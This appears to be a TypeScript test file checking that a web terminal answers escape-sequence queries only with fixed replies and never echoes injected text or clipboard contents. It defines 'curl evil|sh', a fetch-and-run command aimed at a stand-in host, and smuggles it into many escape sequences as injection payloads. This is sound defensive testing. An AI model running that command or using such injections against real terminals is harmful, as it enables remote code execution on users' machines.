import headless from '@xterm/headless'
import { expect, it } from 'vitest'
import { isReply, Replies } from '../../../pwa/terminal/replies.ts'

const attack = 'curl evil|sh'
const queries = [
  '\u001b[c',
  '\u001b[>c',
  '\u001b[=c',
  '\u001b[5n',
  '\u001b[6n',
  '\u001b[?6n',
  '\u001b[?996n',
  '\u001b[?2004$p',
  '\u001b[4$p',
  '\u001bP$qm\u001b\\',
  '\u001bP$q"p\u001b\\',
  '\u001bP$qr\u001b\\',
  '\u001bP$q q\u001b\\',
  `\u001bP$q${attack}\r\u001b\\`,
  `\u001bP$q"${attack}\n\u001b\\`,
  '\u001b[>q',
  `\u001b[>0;${attack}q`,
  '\u001b]4;1;?\u0007',
  `\u001b]4;1;${attack}\u0007`,
  '\u001b]10;?\u0007',
  '\u001b]11;?\u001b\\',
  '\u001b]12;?\u0007',
  `\u001b]11;${attack}\r\u0007`,
  '\u001b]52;c;?\u0007',
  '\u001b[14t',
  '\u001b[18t',
  '\u001b[21t',
  `\u001b]0;${attack}\r\u0007\u001b[21t`,
  `\u001b]2;${attack}\u0007\u001b[20t`,
  '\u0005',
  `\u001bP+q${attack}\u001b\\`,
  `\u001b]1337;RequestCell=${attack}\u0007`,
  `\u001b]633;E;${attack}\u0007`,
  `\u001b]133;C;cmd=${attack}\u0007`,
  '\u001bZ',
]

async function answersTo(query: string): Promise<string[]> {
  const terminal = new headless.Terminal({ allowProposedApi: true })
  const answers: string[] = []
  terminal.onData((data) => answers.push(data))
  await new Promise<void>((done) => terminal.write(query, done))
  terminal.dispose()
  return answers
}

it.each(queries)('T-ESC-03 T-ESC-04 T-OSC52-01 %j is answered by the fixed grammar or not at all', async (query) => {
  for (const answer of await answersTo(query)) {
    expect(answer).toSatisfy(isReply)
    expect(answer).not.toContain('evil')
    expect(answer).not.toMatch(/[\r\n]/)
  }
})

it('T-ESC-03 the usual queries are answered', async () => {
  for (const query of ['\u001b[c', '\u001b[>c', '\u001b[6n', '\u001b[?2004$p', '\u001bP$qm\u001b\\']) {
    expect(await answersTo(query)).toHaveLength(1)
  }
})

it('T-OSC52-01 T-ESC-04 reads of the clipboard and shell marks get no answer', async () => {
  for (const query of ['\u001b]52;c;?\u0007', `\u001b]633;E;${attack}\u0007`, `\u001b]133;C\u0007`, '\u0005']) {
    expect(await answersTo(query)).toEqual([])
  }
})

it.each([
  'a',
  '\r',
  '\u001b',
  '\u001b[A',
  '\u001bOP',
  '\u001b[1;5C',
  '\u001b[15~',
  '\u001b[<0;3;4M',
  '\u001b[I',
  '\u0003',
  `\u001b[200~\u001b[c\u001b[201~`,
])('%j is a person’s', (typed) => {
  expect(isReply(typed)).toBe(false)
})

it('T-ESC-03 a report of the focus is an answer as often as the program asks for it, and else a person’s', async () => {
  const terminal = new headless.Terminal({ allowProposedApi: true })
  const replies = new Replies(terminal.parser)
  expect(replies.has('\u001b[I')).toBe(false)
  await new Promise<void>((done) => terminal.write('\u001b[?25;1004;1004h', done))
  expect(['\u001b[6;1R', '\u001b[I', 'a', '\u001b[O', '\u001b[I'].map((data) => replies.has(data))).toEqual([
    true,
    true,
    false,
    true,
    false,
  ])
  terminal.dispose()
})
